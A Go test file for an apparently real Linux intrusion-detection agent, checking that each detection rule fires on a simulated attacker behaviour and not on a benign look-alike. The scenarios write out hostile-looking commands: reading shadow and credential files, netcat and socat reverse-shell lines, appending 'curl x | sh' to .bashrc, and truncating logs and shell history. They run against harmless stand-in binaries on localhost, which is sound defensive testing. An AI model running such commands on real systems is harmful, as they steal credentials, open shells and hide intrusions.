package cli

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/vigil-sec/vigil/internal/event"
	"github.com/vigil-sec/vigil/internal/policy"
	"github.com/vigil-sec/vigil/internal/vmtest"
)

// detectEnv is the scene the builtin:detect scenarios play in: a fake
// home under /home, named copies of real programs, and files to write.
// Everything it makes is removed when the test ends; files of the host
// it touches (/etc/passwd, a unit file) are opened for appending and
// closed without a byte written.
type detectEnv struct {
	t     *testing.T
	home  string // /home/vigil-detect-N, a user's home
	bin   string // named copies of programs, outside temporary directories
	tmp   string // a directory under /tmp
	gobld string // a directory named like go build's under /tmp
	log   string // a log file under /var/log
	sudo  string // a file under /etc/sudoers.d
	unit  string // an existing systemd unit file
	bogus string // a file that is no kernel module
}

func newDetectEnv(t *testing.T) *detectEnv {
	t.Helper()
	id := fmt.Sprint(os.Getpid())
	e := &detectEnv{t: t, home: "/home/vigil-detect-" + id}
	mkdir := func(d string) string {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.RemoveAll(d) })
		return d
	}
	write := func(p, text string) {
		if err := os.WriteFile(p, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	mkdir(e.home)
	mkdir(filepath.Join(e.home, ".ssh"))
	mkdir(filepath.Join(e.home, ".aws"))
	if out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", filepath.Join(e.home, ".ssh/id_rsa")).CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen: %v\n%s", err, out)
	}
	write(filepath.Join(e.home, ".ssh/authorized_keys"), "")
	write(filepath.Join(e.home, ".aws/credentials"), "[default]\naws_access_key_id = AKIAEXAMPLE\n")
	write(filepath.Join(e.home, ".bashrc"), "# test\n")
	write(filepath.Join(e.home, ".bash_history"), "ls\n")
	e.bin = mkdir("/run/vigil-detect-" + id)
	e.tmp = mkdir("/tmp/vigil-detect-" + id)
	e.gobld = mkdir("/tmp/go-buildvigil-detect-" + id)
	for name, src := range map[string]string{"aws": "/usr/bin/cat", "nmap": "/usr/bin/true", "nc": "/usr/bin/true",
		"socat": "/usr/bin/true", "nginx": "/bin/dash", "modprobe": os.Args[0],
		"exe-keep": "/usr/bin/true", "exe-unlink": "/usr/bin/true"} {
		copyFile(t, src, filepath.Join(e.bin, name))
	}
	copyFile(t, "/usr/bin/true", filepath.Join(e.tmp, "payload"))
	copyFile(t, "/usr/bin/true", filepath.Join(e.gobld, "payload"))
	e.bogus = filepath.Join(e.bin, "bogus.ko")
	write(e.bogus, "not a module")
	e.log = "/var/log/vigil-detect-" + id + ".log"
	write(e.log, "a line\n")
	t.Cleanup(func() { os.Remove(e.log) })
	if _, err := os.Stat("/etc/sudoers.d"); err != nil {
		mkdir("/etc/sudoers.d")
	}
	e.sudo = "/etc/sudoers.d/vigil-detect-" + id
	write(e.sudo, "# test\n")
	t.Cleanup(func() { os.Remove(e.sudo) })
	if _, err := os.Stat("/etc/ld.so.preload"); err != nil {
		// An empty preload list changes nothing for ld.so.
		if err := os.WriteFile("/etc/ld.so.preload", nil, 0o644); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { os.Remove("/etc/ld.so.preload") })
	}
	units, _ := filepath.Glob("/usr/lib/systemd/system/*.service")
	if len(units) == 0 {
		t.Fatal("no systemd unit file under /usr/lib/systemd/system to open")
	}
	e.unit = units[0]
	return e
}

// sh is a shell command line.
func sh(script string) *exec.Cmd { return exec.Command("/bin/sh", "-c", script) }

// detectCase is one rule of builtin:detect: a behaviour that must fire
// it, and the look-alike docs/detections.md names that must not.
type detectCase struct {
	rule  string
	fire  func(e *detectEnv) *exec.Cmd
	quiet func(e *detectEnv) *exec.Cmd
}

var detectCases = []detectCase{
	{"detect-shadow-read",
		func(e *detectEnv) *exec.Cmd { return sh("cat /etc/shadow >/dev/null") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("passwd", "-S", "root") }},
	{"detect-sudoers-read",
		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", e.sudo) },
		func(e *detectEnv) *exec.Cmd { return exec.Command("ls", "-l", "/etc/sudoers.d") }},
	{"detect-ssh-private-key-read",
		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", e.home+"/.ssh/id_rsa") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("ssh-keygen", "-y", "-f", e.home+"/.ssh/id_rsa") }},
	{"detect-cloud-credentials-read",
		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", e.home+"/.aws/credentials") },
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/aws", e.home+"/.aws/credentials") }},
	{"detect-credential-search",
		func(e *detectEnv) *exec.Cmd { return exec.Command("grep", "-rl", "aws_access_key", e.home) },
		func(e *detectEnv) *exec.Cmd { return exec.Command("grep", "-c", "root", "/etc/passwd") }},
	{"detect-proc-environ-read",
		func(e *detectEnv) *exec.Cmd { return sh("sleep 1 & cat /proc/$!/environ >/dev/null; wait") },
		func(e *detectEnv) *exec.Cmd { return sh("sleep 1 & cat /proc/self/environ >/dev/null; wait") }},
	{"detect-cron-write",
		func(e *detectEnv) *exec.Cmd { return sh(": >> /etc/cron.d/e2scrub_all") },
		func(e *detectEnv) *exec.Cmd { return sh("cat /etc/cron.d/e2scrub_all >/dev/null") }},
	{"detect-systemd-unit-write",
		func(e *detectEnv) *exec.Cmd { return sh(": >> " + e.unit) },
		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", e.unit) }},
	{"detect-shell-profile-write",
		func(e *detectEnv) *exec.Cmd { return sh("echo 'curl x | sh' >> " + e.home + "/.bashrc") },
		func(e *detectEnv) *exec.Cmd { return sh(". " + e.home + "/.bashrc") }},
	{"detect-authorized-keys-write",
		func(e *detectEnv) *exec.Cmd {
			return sh("cat " + e.home + "/.ssh/id_rsa.pub >> " + e.home + "/.ssh/authorized_keys")
		},
		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", e.home+"/.ssh/authorized_keys") }},
	{"detect-ld-preload-write",
		func(e *detectEnv) *exec.Cmd { return sh(": >> /etc/ld.so.preload") },
		func(e *detectEnv) *exec.Cmd { return sh("cat /etc/ld.so.preload >/dev/null") }},
	{"detect-account-file-write",
		func(e *detectEnv) *exec.Cmd { return sh(": >> /etc/passwd") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("getent", "passwd", "root") }},
	{"detect-user-added",
		func(e *detectEnv) *exec.Cmd { return exec.Command("useradd", "--help") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("id", "-u", "root") }},
	{"detect-log-truncate",
		func(e *detectEnv) *exec.Cmd { return sh(": > " + e.log) },
		func(e *detectEnv) *exec.Cmd { return sh("echo another line >> " + e.log) }},
	{"detect-history-truncate",
		func(e *detectEnv) *exec.Cmd { return sh(": > " + e.home + "/.bash_history") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("bash", "-c", ": > "+e.home+"/.bash_history") }},
	{"detect-exec-fileless",
		func(e *detectEnv) *exec.Cmd { return vmtest.HelperCommand("memfd-exec", "/usr/bin/true") },
		func(e *detectEnv) *exec.Cmd { return vmtest.HelperCommand("fd-exec", e.bin+"/exe-keep", "keep") }},
	{"detect-exec-deleted",
		func(e *detectEnv) *exec.Cmd { return vmtest.HelperCommand("fd-exec", e.bin+"/exe-unlink", "unlink") },
		func(e *detectEnv) *exec.Cmd { return vmtest.HelperCommand("fd-exec", e.bin+"/exe-keep", "keep") }},
	{"detect-exec-from-tmp",
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.tmp + "/payload") },
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.gobld + "/payload") }},
	{"detect-module-load",
		func(e *detectEnv) *exec.Cmd { return vmtest.HelperCommand("module-try", e.bogus) },
		func(e *detectEnv) *exec.Cmd {
			return vmtest.AsHelper(exec.Command(e.bin+"/modprobe", e.bogus), "module-try")
		}},
	{"detect-network-scanner",
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/nmap", "-sS", "-p-", "127.0.0.1") },
		func(e *detectEnv) *exec.Cmd { return sh("echo nmap >/dev/null") }},
	{"detect-netcat-exec",
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/nc", "-e", "/bin/sh", "127.0.0.1", "4444") },
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/nc", "-z", "127.0.0.1", "22") }},
	{"detect-socat-exec",
		func(e *detectEnv) *exec.Cmd {
			return exec.Command(e.bin+"/socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh,pty,stderr")
		},
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/socat", "-", "TCP:127.0.0.1:80") }},
	{"detect-tunnel-tool",
		func(e *detectEnv) *exec.Cmd {
			return exec.Command(e.bin+"/socat", "TCP-LISTEN:8080,fork", "TCP:10.0.0.1:80")
		},
		func(e *detectEnv) *exec.Cmd { return sh("echo socat >/dev/null") }},
	{"detect-shell-from-service",
		func(e *detectEnv) *exec.Cmd { return exec.Command(e.bin+"/nginx", "-c", "sh -c true; true") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("bash", "-c", "sh -c true; true") }},
	{"detect-secure-delete",
		func(e *detectEnv) *exec.Cmd { return sh("echo secret > " + e.bin + "/s1 && shred -u " + e.bin + "/s1") },
		func(e *detectEnv) *exec.Cmd { return sh("echo secret > " + e.bin + "/s2 && rm " + e.bin + "/s2") }},
	{"detect-system-binary-write",
		func(e *detectEnv) *exec.Cmd { return sh(": >> /usr/lib/os-release") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("cat", "/usr/lib/os-release") }},
	{"detect-etc-write",
		func(e *detectEnv) *exec.Cmd { return sh(": >> /etc/hostname") },
		func(e *detectEnv) *exec.Cmd { return exec.Command("ldconfig") }},
}

// TestDetectRules runs every rule's behaviour and its look-alike under
// vigil monitor --policy builtin:detect --alerts-only, and checks that
// each behaviour raised its rule's alert (with severity and mitre) and
// no look-alike did.
func TestDetectRules(t *testing.T) {
	vmtest.RequireRoot(t)
	if vmtest.InGuest() {
		t.Skip("the scenarios use the host's coreutils, ssh-keygen and shadow tools; the guest is busybox only")
	}
	set, err := policy.Load("builtin:detect")
	if err != nil {
		t.Fatal(err)
	}
	tested := map[string]bool{}
	for _, c := range detectCases {
		tested[c.rule] = true
	}
	for _, r := range set.Rules {
		if !tested[r.Name] {
			t.Errorf("rule %s has no scenario in detectCases", r.Name)
		}
	}
	e := newDetectEnv(t)
	a := startAgent(t, "--policy", "builtin:detect", "--alerts-only")

	run := func(c *exec.Cmd) int {
		out, err := c.CombinedOutput()
		if c.Process == nil {
			t.Fatalf("%v: %v", c.Args, err)
		}
		if err != nil {
			t.Logf("%v: %v (%s)", c.Args, err, strings.TrimSpace(string(out)))
		}
		return c.Process.Pid
	}
	fired, quiet := map[string]int{}, map[string]int{}
	for _, c := range detectCases {
		quiet[c.rule] = run(c.quiet(e))
		fired[c.rule] = run(c.fire(e))
	}
	// Every behaviour must show up; by then the look-alikes, run before
	// each, have had their chance.
	var alerts []*event.Event
	deadline := time.Now().Add(20 * time.Second)
	for {
		alerts = parseAlerts(t, a.out.String())
		missing := 0
		for _, c := range detectCases {
			if alertFor(alerts, c.rule, fired[c.rule]) == nil {
				missing++
			}
		}
		if missing == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	time.Sleep(time.Second)
	alerts = parseAlerts(t, a.out.String())
	for _, c := range detectCases {
		r := set.Rule(c.rule)
		ev := alertFor(alerts, c.rule, fired[c.rule])
		switch {
		case ev == nil:
			t.Errorf("%s: the behaviour (pid %d) raised no alert", c.rule, fired[c.rule])
		case ev.Verdict.Severity != string(r.Severity) || ev.Verdict.Mitre != r.Mitre:
			t.Errorf("%s: alert has severity %q mitre %q, want %q %q", c.rule, ev.Verdict.Severity, ev.Verdict.Mitre, r.Severity, r.Mitre)
		}
		if ev := alertFor(alerts, c.rule, quiet[c.rule]); ev != nil {
			b, _ := json.Marshal(ev)
			t.Errorf("%s: the look-alike (pid %d) raised an alert: %s", c.rule, quiet[c.rule], b)
		}
	}
	for _, ev := range alerts {
		if !ev.Alert() {
			t.Errorf("--alerts-only wrote an event that is no alert: %+v", ev)
		}
	}
}

// parseAlerts decodes the agent's NDJSON.
func parseAlerts(t *testing.T, out string) []*event.Event {
	t.Helper()
	var evs []*event.Event
	sc := bufio.NewScanner(strings.NewReader(out))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		ev := &event.Event{}
		if err := json.Unmarshal(sc.Bytes(), ev); err != nil {
			t.Fatalf("decoding %s: %v", sc.Bytes(), err)
		}
		evs = append(evs, ev)
	}
	return evs
}

// alertFor returns an alert of rule raised by pid or a descendant of it.
func alertFor(evs []*event.Event, rule string, pid int) *event.Event {
	for _, ev := range evs {
		if ev.Verdict == nil || ev.Verdict.Rule != rule {
			continue
		}
		p := &ev.Process
		if int(p.Pid) == pid || slices.ContainsFunc(p.Ancestors, func(a event.Ancestor) bool { return int(a.Pid) == pid }) {
			return ev
		}
	}
	return nil
}

// TestDetectPackageInstallQuiet installs and purges a real package with
// dpkg under builtin:detect: dpkg unpacking a file into /etc/profile.d
// and its maintainer script writing /etc/passwd and a cron file and
// running useradd are the package-manager look-alikes docs/detections.md
// excepts, and must raise no alert; the same write by hand must.
func TestDetectPackageInstallQuiet(t *testing.T) {
	vmtest.RequireRoot(t)
	for _, tool := range []string{"dpkg", "dpkg-deb"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("no %s on this host: %v", tool, err)
		}
	}
	const pkg = "vigil-detect-probe"
	if exec.Command("dpkg", "-s", pkg).Run() == nil {
		t.Fatalf("%s is already installed; purge it first", pkg)
	}
	dir := t.TempDir()
	root := filepath.Join(dir, "pkg")
	for _, d := range []string{"DEBIAN", "etc/profile.d"} {
		if err := os.MkdirAll(filepath.Join(root, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	files := map[string]string{
		"DEBIAN/control":               "Package: " + pkg + "\nVersion: 1.0\nArchitecture: all\nMaintainer: vigil <vigil@localhost>\nDescription: vigil test package\n",
		"DEBIAN/postinst":              "#!/bin/sh\n: >> /etc/passwd\n: >> /etc/cron.d/e2scrub_all\nuseradd --help >/dev/null\nexit 0\n",
		"etc/profile.d/vigil-probe.sh": "# vigil test\n",
	}
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(root, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	deb := filepath.Join(dir, "p.deb")
	if out, err := exec.Command("dpkg-deb", "-b", root, deb).CombinedOutput(); err != nil {
		t.Fatalf("dpkg-deb: %v\n%s", err, out)
	}
	a := startAgent(t, "--policy", "builtin:detect", "--alerts-only")
	install := exec.Command("dpkg", "-i", deb)
	out, err := install.CombinedOutput()
	t.Cleanup(func() { _ = exec.Command("dpkg", "--purge", pkg).Run() })
	if err != nil {
		if strings.Contains(string(out), "lock") {
			t.Skipf("the dpkg database is locked by another process: %s", out)
		}
		t.Fatalf("dpkg -i: %v\n%s", err, out)
	}
	if out, err := exec.Command("dpkg", "--purge", pkg).CombinedOutput(); err != nil {
		t.Fatalf("dpkg --purge: %v\n%s", err, out)
	}
	byHand := sh(": >> /etc/passwd")
	if err := byHand.Run(); err != nil {
		t.Fatal(err)
	}
	a.waitEvent(t, "detect-account-file-write by hand", func(ev *event.Event) bool {
		return ev.Verdict != nil && ev.Verdict.Rule == "detect-account-file-write" && int(ev.Process.Pid) == byHand.Process.Pid
	})
	time.Sleep(500 * time.Millisecond)
	for _, ev := range parseAlerts(t, a.out.String()) {
		if alertFor([]*event.Event{ev}, ev.Verdict.Rule, install.Process.Pid) != nil || ev.Process.Comm == "dpkg" {
			b, _ := json.Marshal(ev)
			t.Errorf("the package install raised an alert: %s", b)
		}
	}
}
